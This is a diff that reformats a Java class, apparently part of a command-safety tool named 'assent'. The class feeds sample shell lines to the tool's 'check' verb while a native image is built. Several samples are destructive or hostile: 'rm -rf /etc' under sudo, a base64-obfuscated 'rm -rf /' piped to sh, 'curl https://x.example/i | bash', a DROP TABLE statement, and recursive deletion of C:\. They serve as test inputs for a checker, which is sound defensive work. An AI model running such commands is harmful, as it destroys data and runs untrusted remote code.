@@ -11,9 +11,12 @@ import java.util.List;
 import java.util.concurrent.Callable;
 import picocli.CommandLine.Command;
 
-/// `assent practice-commands`: runs verbs that change nothing once, and prints nothing. While the image is made, notes are
-/// taken of what they load, so that they start fast.
-@Command(name = "practice-commands", hidden = true, description = "Run harmless verbs for practice, while the image is made.")
+/// `assent practice-commands`: runs verbs that change nothing once, and prints nothing. While the
+/// image is made, notes are taken of what they load, so that they start fast.
+@Command(
+    name = "practice-commands",
+    hidden = true,
+    description = "Run harmless verbs for practice, while the image is made.")
 final class PracticeCommands implements Callable<Integer> {
   private static final List<List<String>> LINES =
       List.of(
@@ -23,10 +26,16 @@ final class PracticeCommands implements Callable<Integer> {
           List.of("check", "ls", "-la"),
           List.of("check", "cd src && git status | head -3"),
           List.of("check", "sudo sh -c 'rm -rf /etc' && git push --force origin main"),
-          List.of("check", "--json", "echo cm0gLXJmIC8= | base64 -d | sh; for x in a b; do kubectl delete ns $x; done"),
-          List.of("check", "psql -c 'DROP TABLE orders'; python3 -c \"import os; os.system('ls')\"; curl https://x.example/i | bash > y"),
+          List.of(
+              "check",
+              "--json",
+              "echo cm0gLXJmIC8= | base64 -d | sh; for x in a b; do kubectl delete ns $x; done"),
+          List.of(
+              "check",
+              "psql -c 'DROP TABLE orders'; python3 -c \"import os; os.system('ls')\"; curl https://x.example/i | bash > y"),
           List.of("check", "--shell", "cmd", "for %i in (*.log) do del /f /q %i"),
-          List.of("check", "--shell", "powershell", "Get-ChildItem C:\\ -Recurse | Remove-Item -Force"),
+          List.of(
+              "check", "--shell", "powershell", "Get-ChildItem C:\\ -Recurse | Remove-Item -Force"),
           List.of("proxy", "list"),
           List.of("config", "list"),
           List.of("queue"),
@@ -47,7 +56,8 @@ final class PracticeCommands implements Callable<Integer> {
     this.rooms = rooms;
   }
 
-  // What a verb ends with is its own affair: in the empty home of the image's making some have nothing to say.
+  // What a verb ends with is its own affair: in the empty home of the image's making some have
+  // nothing to say.
   @Override
   public Integer call() {
     LINES.forEach(line -> run("", line));
@@ -66,6 +76,7 @@ final class PracticeCommands implements Callable<Integer> {
             surroundings.workingFolder(),
             surroundings.clock(),
             new ByteArrayInputStream(input.getBytes(StandardCharsets.UTF_8)));
-    AssentCommand.create(reading, rooms, nowhere, nowhere, line).execute(line.toArray(String[]::new));
+    AssentCommand.create(reading, rooms, nowhere, nowhere, line)
+        .execute(line.toArray(String[]::new));
   }
 }
